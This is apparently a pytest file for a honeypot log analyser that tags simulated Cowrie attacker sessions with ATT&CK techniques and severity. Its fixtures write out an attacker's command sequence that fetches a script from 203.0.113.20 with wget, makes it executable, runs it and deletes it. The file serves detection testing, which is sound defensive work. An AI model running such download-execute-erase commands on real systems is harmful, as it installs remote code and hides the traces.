"""A session's lines say little one by one: through the whole engine its tags say what the session did, and why."""

from __future__ import annotations

import sqlite3
from contextlib import closing
from pathlib import Path

import pytest

from tests.programkit import cli, listed, run_until_idle
from tests.unit.test_order_of_lines import START, line

pytestmark = pytest.mark.slow
LINES = [
    "cd /var/run",
    "wget http://203.0.113.20/pear.sh",
    "chmod 755 pear.sh",
    "sh pear.sh",
    "rm -f pear.sh",
]


def test_a_file_that_is_fetched_run_and_removed_is_told_as_that(tmp_path: Path) -> None:
    log, data = tmp_path / "cowrie.json", tmp_path / "data"
    typed = [line("a1", "command.input", START + 2 + n, input=text) for n, text in enumerate(LINES)]
    start, close = line("a1", "session.connect", START), line("a1", "session.closed", START + 9, duration=9.0)
    accepted = line("a1", "login.success", START + 1, username="root", password="x")
    log.write_bytes(b"\n".join([start, accepted, *typed, close]) + b"\n")
    done = run_until_idle(log, data, timeout=120)
    assert done.returncode == 0, done.stderr.decode()[-2000:]

    rows = [
        row for row in listed("tags", data) if row["rule_id"].startswith("R09") and row["rule_id"] < "R0990"
    ]
    found = {
        (row["source_id"].rpartition("#")[2], row["sub_technique_id"] or row["technique_id"]) for row in rows
    }
    assert {("cmd1", "T1105"), ("cmd2", "T1222.002"), ("cmd3", "T1059.004"), ("cmd4", "T1070.004")} == found
    (run,) = [row for row in rows if row["source_id"].endswith("cmd3")]
    assert run["evidence"]["because"] == "fetched by line 2: wget http://203.0.113.20/pear.sh"
    shown = cli("tags", "--technique", "T1059.004", "--data-dir", data)
    assert "fetched by line 2: wget" in shown.stdout.decode()
    page = cli("session", "a1", "--data-dir", data).stdout.decode()
    assert "severity        high: fetched and ran pear.sh" in page
    assert "story           access \u203a fetch+arm+run pear.sh \u203a clean" in page
    assert "first time ever playbook, log-in root/#" in page
    (judged,) = listed("sessions", data, "--severity", "high")
    assert (judged["severity"], judged["severity_reason"]) == ("high", "fetched and ran pear.sh")
    assert [phase["phase"] for phase in judged["story"]] == ["access", "deliver", "clean"]
    assert "T1485" not in {row["technique_id"] for row in listed("tags", data)}, "its own file is no data"


def test_a_session_of_several_events_is_told_as_one(tmp_path: Path) -> None:
    log, data = tmp_path / "cowrie.json", tmp_path / "data"
    padding = [f"echo {n:04} {'x' * 2000} > /dev/null" for n in range(300)]
    said = ["cd /tmp", "./pear", *padding, "wget http://203.0.113.20/pear", "./pear"]
    typed = [line("a1", "command.input", START + 2 + n, input=text) for n, text in enumerate(said)]
    start, close = (
        line("a1", "session.connect", START),
        line("a1", "session.closed", START + 400, duration=400.0),
    )
    log.write_bytes(b"\n".join([start, *typed, close]) + b"\n")
    done = run_until_idle(log, data, timeout=120)
    assert done.returncode == 0, done.stderr.decode()[-2000:]

    with closing(sqlite3.connect(data / "decnet.sqlite")) as database:
        (parts,) = database.execute("SELECT COUNT(*) FROM ttp_part").fetchone()
    assert parts > 1, "or it shows nothing"
    because = {
        row["source_id"].rpartition("#")[2]: row["evidence"]["because"]
        for row in listed("tags", data)
        if row["rule_id"] in ("R0901", "R0906")
    }
    fetched = "fetched by line 303: wget http://203.0.113.20/pear"
    assert because == {"cmd1": fetched, "cmd303": fetched}
    tags = listed("tags", data)
    back = cli("backfill", "--since", "7300d", "--data-dir", data)
    assert back.returncode == 0, back.stderr.decode()
    assert listed("tags", data) == tags, "back-fill has nothing to add and nothing to take away"
